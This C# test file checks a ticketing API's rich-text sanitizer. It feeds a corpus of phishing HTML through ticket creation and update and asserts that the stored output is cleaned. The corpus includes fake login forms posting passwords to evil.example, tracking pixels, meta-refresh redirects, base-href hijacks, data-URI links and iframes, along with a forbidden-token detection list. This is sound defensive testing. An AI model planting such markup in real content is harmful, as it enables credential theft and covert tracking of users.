using System.Net;
using TicketingFunctions.Tickets;
using static TicketingFunctions.Tests.Http.TicketLifecycleApi;

namespace TicketingFunctions.Tests.Http;

public sealed class RichTextPolicyOnEmbeddedStore() : RichTextPolicyTests(new EmbeddedHosts());

[Collection(TicketingFunctions.Tests.Cosmos.CosmosEmulatorCollection.Name)]
public sealed class RichTextPolicyOnCosmos(TicketingFunctions.Tests.Cosmos.CosmosEmulatorFixture emulator) : RichTextPolicyTests(new CosmosHosts(emulator));

/// <summary>The rich-text allow-list against a phishing corpus, through create and update, stored and echoed.</summary>
public abstract class RichTextPolicyTests(IApiHosts hosts) : IAsyncLifetime
{
    private TestApi Api { get; set; } = null!;
    public async Task InitializeAsync() => Api = await hosts.StartAsync();
    public async Task DisposeAsync() => await Api.DisposeAsync();

    /// <summary>Each input and what the stored value must be. Every hostile URL points at evil.example.</summary>
    public static TheoryData<string, string> PhishingCorpus => new()
    {
        { """<p>Session expired</p><form action="https://evil.example/login" method="post"><input name="user"><input type="password" name="pw"><button type="submit">Sign in</button></form>""", "<p>Session expired</p>" },
        { """<p>Verify</p><input type="image" src="https://evil.example/go.png">""", "<p>Verify</p>" },
        { """<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">Log in again</div>""", "<div>Log in again</div>" },
        { """<p class="alert" id="login">x</p>""", "<p>x</p>" },
        { """<img src="http://evil.example/pixel.gif" width="1" height="1">""", "<img>" },
        { """<img src="//evil.example/pixel.gif">""", "<img>" },
        { """<a href="//evil.example/login">Reset your password</a>""", "<a>Reset your password</a>" },
        { """<a href="/relative/login">Reset</a>""", "<a>Reset</a>" },
        { """<a href="data:text/html;base64,PHNjcmlwdD4=">open</a>""", "<a>open</a>" },
        { """<meta http-equiv="refresh" content="0;url=https://evil.example"><p>Moved</p>""", "<p>Moved</p>" },
        { """<base href="https://evil.example/"><a href="https://example.com/kb">KB</a>""", """<a href="https://example.com/kb">KB</a>""" },
        { """<svg><foreignObject><form action="https://evil.example"><input type="password"></form></foreignObject></svg><p>ok</p>""", "<p>ok</p>" },
        { """<iframe src="https://evil.example/login"></iframe><p>ok</p>""", "<p>ok</p>" },
        { """<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><p>ok</p>""", "<p>ok</p>" },
        { """<select name="bank"><option>Contoso Bank</option></select><textarea>card number</textarea><p>ok</p>""", "<p>ok</p>" },
        { """<p>Call <a href="https://example.com/kb" target="_blank" style="color:red">the desk</a></p>""", """<p>Call <a href="https://example.com/kb">the desk</a></p>""" },
    };

    private static readonly string[] Forbidden =
        ["evil.example", "<form", "<input", "<button", "<select", "<textarea", "<meta", "<base", "<svg", "foreignobject", "<iframe", "<object", "<embed", "style=", "class=", "id=", "target="];

    [Theory]
    [MemberData(nameof(PhishingCorpus))]
    public async Task Phishing_markup_is_cleaned_on_create_and_on_update(string html, string expected)
    {
        Assert.Equal(expected, RichTextSanitizer.Sanitize(html));

        var created = await Api.CreateAsync(Bodies.Example(b => b.TicketBody()[Bodies.DescriptionField] = html));
        Assert.Equal(HttpStatusCode.OK, created.StatusCode);
        var ticket = (await created.JsonAsync()).GetProperty("ticket");
        Assert.Equal(expected, ticket.GetProperty("data").GetProperty(Bodies.DescriptionField).GetString());

        var updated = await Api.PatchAsync(ticket.GetProperty("object_id").GetString()!, Patch(ticket.GetProperty("etag").GetString(),
            $$"""  "ticketBody":{"{{Bodies.DescriptionField}}":{{System.Text.Json.JsonSerializer.Serialize("<p>v2</p>" + html)}}}  """));
        Assert.Equal(HttpStatusCode.OK, updated.StatusCode);
        var stored = (await (await Api.GetTicketAsync(ticket.GetProperty("object_id").GetString()!)).JsonAsync())
            .GetProperty("ticket").GetProperty("data").GetProperty(Bodies.DescriptionField).GetString()!;
        Assert.Equal("<p>v2</p>" + expected, stored);
        Assert.All(Forbidden, f => Assert.DoesNotContain(f, stored, StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task Formatting_lists_headings_quotes_code_tables_and_safe_links_and_images_stay()
    {
        const string html = """<h2>Steps</h2><ol start="2"><li><b>Back up</b> <em>first</em></li></ol><blockquote>quoted</blockquote><pre><code>dotnet test</code></pre><table><thead><tr><th scope="col">Item</th></tr></thead><tbody><tr><td colspan="2">Laptop</td></tr></tbody></table><p><a href="mailto:desk@example.com">desk</a> <a href="http://example.com/a">a</a> <img src="https://example.com/shot.png" alt="screenshot"></p>""";

        var created = await Api.CreateAsync(Bodies.Example(b => b.TicketBody()[Bodies.DescriptionField] = html));

        Assert.Equal(html, (await created.JsonAsync()).GetProperty("ticket").GetProperty("data").GetProperty(Bodies.DescriptionField).GetString());
    }
}
